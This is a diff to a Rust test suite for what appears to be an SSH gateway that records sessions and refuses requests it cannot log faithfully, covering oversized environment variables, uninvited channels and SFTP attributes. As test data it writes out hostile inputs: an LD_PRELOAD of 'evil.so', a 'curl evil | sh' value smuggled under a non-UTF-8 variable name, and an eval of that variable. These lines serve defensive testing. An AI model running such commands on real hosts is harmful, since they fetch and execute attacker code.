@@ -3,7 +3,8 @@ use std::{collections::BTreeMap, fs, path::Path};
 use auth::clock::Clock;
 use prometheus::IntCounter;
 use protocols::{
-    Event, Exit, Listener, SftpEvent, SftpOperation, SftpOutcome, Tap as _, TapClosed, TcpForward,
+    Event, Exit, Listener, SftpAttributes, SftpEvent, SftpOperation, SftpOutcome, Tap as _, TapClosed,
+    TcpForward,
 };
 use serde_json::Value;
 use tempfile::TempDir;
@@ -131,7 +132,7 @@ async fn a_variable_that_has_no_room_on_record_does_not_pass() {
     stage.forwards(0, SshAction::Open(ChannelKind::Session)).await;
     for number in 0..MAX_VARIABLES {
         let name = format!("LC_{number}");
-        let length = if number == 0 { 2_000 } else { 20 };
+        let length = if number == 0 { 20_000 } else { 20 };
         stage.forwards(0, SshAction::Env { name: name.as_bytes(), value: &vec![b'x'; length] }).await;
     }
     let last = SshAction::Env { name: b"LD_PRELOAD", value: b"evil.so" };
@@ -142,7 +143,25 @@ async fn a_variable_that_has_no_room_on_record_does_not_pass() {
     assert_eq!(refused["success"], false, "{refused}");
     let ran = events.iter().find(|event| event["event"] == "exec").unwrap();
     let value = ran["environment"]["LC_0"].as_str().unwrap_or_else(|| panic!("{ran}"));
-    assert_eq!((value.len(), value.ends_with("x…")), (MAX_VARIABLE_BYTES + "…".len(), true));
+    assert_eq!(value.len(), 20_000, "all of it: a command may be in it");
+}
+
+#[tokio::test]
+async fn a_variable_that_is_not_on_record_as_it_is_does_not_pass() {
+    let mut stage = Stage::new(RecordingMode::BestEffort).await;
+    stage.forwards(0, SshAction::Open(ChannelKind::Session)).await;
+    let long = vec![b'x'; 50_000];
+    // The second name would be on record as the first.
+    for (name, value) in [(&b"LC_X"[..], &long[..]), (b"LC_\xff", b"curl evil | sh"), (b"LC_\xfe", b"hello")]
+    {
+        let Ok(Verdict::Refuse(_)) = stage.sees(0, true, SshAction::Env { name, value }).await else {
+            panic!("it passed: {name:?}")
+        };
+    }
+    stage.forwards(0, SshAction::Exec { command: b"eval \"$LC_X\"", file_copy: false }).await;
+    let (events, _data) = stage.ends().await;
+    let refused = names(&events).into_iter().filter(|name| *name == "session.request.refused").count();
+    assert_eq!(refused, 3);
 }
 
 #[tokio::test]
@@ -334,6 +353,9 @@ async fn what_is_asked_for_is_on_record_allowed_or_not() {
     stage.refuses(4, SshAction::Open(ChannelKind::Session)).await;
     stage.refuses(5, SshAction::Open(ChannelKind::Unknown { name: b"tun@openssh.com" })).await;
     stage.refuses(6, SshAction::Open(ChannelKind::ForwardedTcpip(forward))).await;
+    stage.refuses(7, SshAction::Open(ChannelKind::Uninvited { name: b"direct-tcpip" })).await;
+    stage.refuses(8, SshAction::Open(ChannelKind::Agent)).await;
+    stage.refuses(0, SshAction::Signal { name: b"KILL" }).await;
     let (events, _data) = stage.ends().await;
     let seen: Vec<_> = events[1..events.len() - 2]
         .iter()
@@ -353,8 +375,15 @@ async fn what_is_asked_for_is_on_record_allowed_or_not() {
         ("session.rejected", "T1006W", None),
         ("session.request.refused", "TTS24W", Some(false)),
         ("port", "T3003E", Some(false)),
+        ("session.request.refused", "TTS24W", Some(false)),
+        ("session.request.refused", "TTS24W", Some(false)),
+        ("session.request.refused", "TTS24W", Some(false)),
     ];
     assert_eq!(seen, expected);
+    for (event, name) in events[12..].iter().zip(["direct-tcpip", "auth-agent@openssh.com"]) {
+        assert_eq!((&event["request"], &event["name"]), (&"host_channel".into(), &name.into()), "the host's");
+        assert_ne!(event["error"], "not allowed by your roles");
+    }
     assert_eq!((&events[1]["addr"], &events[1]["origin"]), (&"[::1]:80".into(), &"127.0.0.1:5".into()));
     assert_eq!(events[3]["addr"], "unix:/tmp/x");
     assert_eq!(events[4]["command_base64"], "c2NwIC10IP8=");
@@ -371,6 +400,8 @@ async fn a_file_of_sftp_is_one_event_with_what_was_done_to_it() {
             unknown_handle: None,
             read,
             written,
+            flags: Some(26),
+            attributes: SftpAttributes { permissions: Some(0o4755), ..SftpAttributes::default() },
             outcome,
         })
     };
@@ -381,15 +412,21 @@ async fn a_file_of_sftp_is_one_event_with_what_was_done_to_it() {
     let guessed = SftpEvent {
         operation: SftpOperation::SetAttributes,
         path: b"",
-        target: None,
+        target: Some(b"/\xff"),
         unknown_handle: Some(b"guess"),
         read: 0,
         written: 0,
+        flags: None,
+        attributes: SftpAttributes::default(),
         outcome: SftpOutcome::Failed { code: 4 },
     };
     stage.forwards(0, SshAction::Sftp(guessed)).await;
     let (events, _data) = stage.ends().await;
     assert_eq!((&events[5]["unknown_handle"], &events[5]["code"]), (&"Z3Vlc3M=".into(), &"TS007E".into()));
+    assert_eq!(events[5]["target_path_base64"], "L/8=");
+    assert!(events[5].get("flags").is_none() && events[5].get("attributes").is_none());
+    assert_eq!(events[1]["flags"], serde_json::json!(["write", "create", "truncate"]));
+    assert_eq!(events[1]["attributes"], serde_json::json!({"permissions": "4755"}));
     let seen: Vec<_> = events[1..5]
         .iter()
         .map(|event| {
@@ -417,4 +454,7 @@ async fn a_terminal_is_idle_while_nobody_types_and_a_command_is_work_while_it_ru
     assert!(timeout(Duration::from_millis(300), idle).await.is_err(), "the command runs");
     stage.forwards(1, SshAction::Close { exit: None, from_client: 0, from_upstream: 0 }).await;
     timeout(Duration::from_secs(10), stage.trail.idle(limit)).await.unwrap();
+    stage.refuses(2, SshAction::Open(ChannelKind::Uninvited { name: b"session" })).await;
+    let still = timeout(Duration::ZERO, stage.trail.idle(limit)).await;
+    still.expect("the host does not keep it from being idle");
 }
